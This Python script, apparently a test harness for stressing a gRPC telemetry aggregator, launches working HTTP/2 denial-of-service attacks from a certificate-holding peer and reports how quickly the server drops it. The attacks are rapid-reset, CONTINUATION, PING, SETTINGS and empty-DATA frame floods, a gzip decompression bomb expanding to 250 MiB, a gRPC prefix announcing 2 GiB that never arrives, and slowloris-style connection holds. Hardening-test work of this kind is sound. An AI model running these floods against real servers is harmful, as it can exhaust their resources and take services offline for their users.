"""One attack on an aggregator by a peer that its certificate lets in.

The peer is an ordinary HTTP/2 client (h2) up to where it misbehaves; from there on it writes frames
that h2 would not make. It starts anew whenever it is thrown out, until its time is over, and then
prints one line of JSON: how much it sent, how often it was thrown out, how and after how long.
"""

import argparse
import gzip
import json
import selectors
import socket
import ssl
import statistics
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_HEADERS = 4
PATH = "/rowcall.v1.TelemetryService/Stream"
# What is written at once, in bytes: several thousand frames.
CHUNK = 64 * 1024


def frame(kind, flags, stream, payload=b""):
    length = len(payload)
    return struct.pack(">BHBBI", length >> 16, length & 0xFFFF, kind, flags, stream) + payload


def call_headers(extra=()):
    return [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", PATH),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *extra,
    ]


# The same as a header block without names that a table would have to hold.
def call_block():
    def text(value):
        return bytes([len(value)]) + value.encode()

    return (
        b"\x83\x87\x04" + text(PATH) + b"\x01" + text("localhost")
        + b"\x0f\x10" + text("application/grpc") + b"\x00" + text("te") + text("trailers")
    )


class Peer:
    """A TLS connection whose HTTP/2 has begun, and what the server says on it."""

    def __init__(self, options, begin=True):
        self.began = time.monotonic()
        raw = dial(options)
        self.socket = options.context.wrap_socket(raw, server_hostname="localhost")
        self.http = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.ended = None
        self.frames = 0
        self.unread = b""
        if begin:
            self.http.initiate_connection()
            self.send_http()
        self.socket.setblocking(False)

    def send_http(self):
        self.socket.sendall(self.http.data_to_send())

    def read(self):
        """What has come; notes how the connection ends."""
        while self.ended is None:
            try:
                data = self.socket.recv(64 * 1024)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                self.ended = "closed"
                return
            if not data:
                self.ended = "closed"
                return
            self.look(data)

    def look(self, data):
        # Frame by frame: h2 would object to answers to what it never sent.
        self.unread += data
        while len(self.unread) >= 9:
            length = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + length:
                return
            if self.unread[3] == GOAWAY:
                self.ended = "GOAWAY %d" % int.from_bytes(self.unread[13:17], "big")
            self.unread = self.unread[9 + length:]

    def flood(self, chunks, until):
        """Writes what `chunks` gives, (bytes, frames), and reads, until thrown out or `until`."""
        waiting = selectors.DefaultSelector()
        waiting.register(self.socket, selectors.EVENT_READ | selectors.EVENT_WRITE)
        data, count = b"", 0
        while self.ended is None and time.monotonic() < until:
            if not data:
                data, count = next(chunks, (b"", 0))
                if not data:
                    break
            try:
                data = data[self.socket.send(data):]
                if not data:
                    self.frames += count
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                waiting.select(0.1)
            except OSError:
                self.read()
                self.ended = self.ended or "closed"
            self.read()
        # Whatever it was: what the server said last may still be on its way.
        self.wait(min(until, time.monotonic() + 1) if data else until)

    def wait(self, until):
        waiting = selectors.DefaultSelector()
        waiting.register(self.socket, selectors.EVENT_READ)
        while self.ended is None and time.monotonic() < until:
            waiting.select(0.2)
            self.read()

    def close(self):
        self.socket.close()


def dial(options):
    raw = socket.socket()
    raw.bind((options.source, 0))
    raw.settimeout(10)
    raw.connect(options.address)
    return raw


def repeat(one, count):
    """One frame over and over."""
    while True:
        yield one * count, count


def many(one):
    return repeat(one, max(1, CHUNK // len(one)))


def rapid_reset(_options):
    block = call_block()
    stream = 1
    while stream < 2**31 - 1000:
        frames = []
        for _ in range(250):
            frames.append(frame(HEADERS, END_HEADERS, stream, block))
            frames.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            stream += 2
        yield b"".join(frames), len(frames)


def continuation(_options):
    yield frame(HEADERS, 0, 1, call_block()), 1
    yield from many(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"))


def ping(_options):
    return many(frame(PING, 0, 0, b"rowcall?"))


def settings(_options):
    # MAX_CONCURRENT_STREAMS, to and fro.
    return many(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 7)))


def empty_data(_options):
    yield frame(HEADERS, END_HEADERS, 1, call_block()), 1
    yield from many(frame(DATA, 0, 1))


def calls_with(body, extra=()):
    """Calls one after the other, each with such a body, as h2 makes them."""

    def run(options, until):
        peer = Peer(options)
        stream, sent = 1, 0
        peer.socket.setblocking(True)
        peer.socket.settimeout(10)
        try:
            while time.monotonic() < until:
                peer.http.send_headers(stream, call_headers(extra))
                rest, over = body, False
                while not over:
                    room = min(peer.http.local_flow_control_window(stream), 16_384, len(rest))
                    if room:
                        peer.http.send_data(stream, rest[:room])
                        rest = rest[room:]
                        sent += 1
                    peer.send_http()
                    if room and rest:
                        continue
                    data = peer.socket.recv(64 * 1024)
                    if not data:
                        raise ConnectionError
                    for event in peer.http.receive_data(data):
                        if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                            over = over or event.stream_id == stream
                        if isinstance(event, h2.events.ConnectionTerminated):
                            peer.ended = "GOAWAY %d" % event.error_code
                            raise ConnectionError
                peer.frames = sent + stream // 2 + 1
                if peer.http.streams.get(stream) and not peer.http.streams[stream].closed:
                    peer.http.reset_stream(stream, 8)
                    peer.send_http()
                stream += 2
        except (OSError, h2.exceptions.ProtocolError):
            peer.ended = peer.ended or "closed"
        return peer

    return run


def bomb():
    # A Batch of one HostInfo whose text inflates to 250 MiB.
    text = b"x" * (250 << 20)
    packed = gzip.compress(text, 9)
    return b"\x01" + struct.pack(">I", len(packed)) + packed


FLOODS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "ping": ping,
    "settings": settings,
    "empty-data": empty_data,
}


def flooding(name):
    def run(options, until):
        peer = Peer(options)
        peer.flood(FLOODS[name](options), until)
        return peer

    return run


# Slow ones: many connections at once, each held until the server ends it.


def silent(options):
    return dial(options)


def half_tls(options):
    raw = dial(options)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = options.context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    raw.sendall(hello[: len(hello) // 2])
    return raw


def no_preface(options):
    return Peer(options, begin=False).socket


def no_hello(options):
    peer = Peer(options)
    peer.socket.setblocking(True)
    peer.http.send_headers(1, call_headers())
    peer.send_http()
    return peer.socket


def drip(options):
    """A call whose first message never comes whole: a byte in 10 s."""
    raw = no_hello(options)
    raw.sendall(frame(DATA, 0, 1, b"\x00\x00\x00\x00\x40"))
    return raw


SLOW = {
    "silent": (silent, None),
    "half-tls": (half_tls, None),
    "no-preface": (no_preface, None),
    "no-hello": (no_hello, None),
    "drip": (drip, frame(DATA, 0, 1, b"\n")),
}


def slow(name, options):
    """Keeps so many connections open; a new one for each that ends."""
    open_one, byte = SLOW[name]
    until = time.monotonic() + options.seconds
    held, waiting = {}, selectors.DefaultSelector()
    result = Result()
    while time.monotonic() < until:
        if len(held) < options.connections:
            try:
                one = open_one(options)
                one.setblocking(False)
                waiting.register(one, selectors.EVENT_READ)
                held[one] = [time.monotonic(), time.monotonic()]
                result.frames += 1
            except OSError:
                # Not even let in.
                result.ended("refused", 0.0)
                time.sleep(0.01)
        for key, _ in waiting.select(0 if len(held) < options.connections else 0.1):
            one = key.fileobj
            try:
                if one.recv(16 * 1024):
                    continue
                how = "closed"
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                continue
            except OSError:
                how = "closed"
            waiting.unregister(one)
            result.ended(how, time.monotonic() - held.pop(one)[0])
            one.close()
        now = time.monotonic()
        for one, times in held.items():
            if byte and now - times[1] > 10:
                times[1] = now
                try:
                    one.send(byte)
                    result.frames += 1
                except OSError:
                    pass
    ages = [time.monotonic() - began for began, _ in held.values()]
    result.open = len(ages)
    result.oldest = max(ages, default=0.0)
    for one in held:
        one.close()
    return result


class Result:
    def __init__(self):
        self.frames = 0
        self.ends = {}
        self.after = []
        self.open = 0
        self.oldest = 0.0
        self.began = time.monotonic()

    def ended(self, how, after):
        self.ends[how] = self.ends.get(how, 0) + 1
        if how != "refused":
            self.after.append(after)

    def told(self):
        took = time.monotonic() - self.began
        return {
            "frames_per_s": self.frames / took,
            "ends": self.ends,
            "after_s": statistics.median(self.after) if self.after else None,
            "longest_s": max(self.after, default=None),
            "open": self.open,
            "oldest_s": self.oldest,
        }


def fast(run, options):
    """One connection after the other."""
    result = Result()
    until = result.began + options.seconds
    while time.monotonic() < until:
        try:
            peer = run(options, until)
        except OSError:
            result.ended("refused", 0.0)
            time.sleep(0.05)
            continue
        result.frames += peer.frames
        age = time.monotonic() - peer.began
        if peer.ended:
            result.ended(peer.ended, age)
        else:
            result.open += 1
            result.oldest = max(result.oldest, age)
        peer.close()
    return result


def main():
    fast_ones = {name: flooding(name) for name in FLOODS}
    # 2 GiB are announced, none come.
    fast_ones["long-prefix"] = calls_with(b"\x00\x80\x00\x00\x00")
    fast_ones["gzip-bomb"] = None
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=[*fast_ones, *SLOW])
    parser.add_argument("--address", required=True)
    parser.add_argument("--source", default="127.0.0.1")
    parser.add_argument("--ca", required=True)
    parser.add_argument("--certificate", required=True)
    parser.add_argument("--key", required=True)
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--connections", type=int, default=200)
    options = parser.parse_args()
    host, port = options.address.rsplit(":", 1)
    options.address = (host, int(port))
    options.context = ssl.create_default_context(cafile=options.ca)
    options.context.minimum_version = ssl.TLSVersion.TLSv1_3
    options.context.load_cert_chain(options.certificate, options.key)
    options.context.set_alpn_protocols(["h2"])
    if options.attack == "gzip-bomb":
        fast_ones["gzip-bomb"] = calls_with(bomb(), [("grpc-encoding", "gzip")])
    # The time begins when it is prepared.
    print("ready", flush=True)
    sys.stdin.readline()
    if options.attack in SLOW:
        result = slow(options.attack, options)
    else:
        result = fast(fast_ones[options.attack], options)
    print(json.dumps(result.told()))


if __name__ == "__main__":
    main()
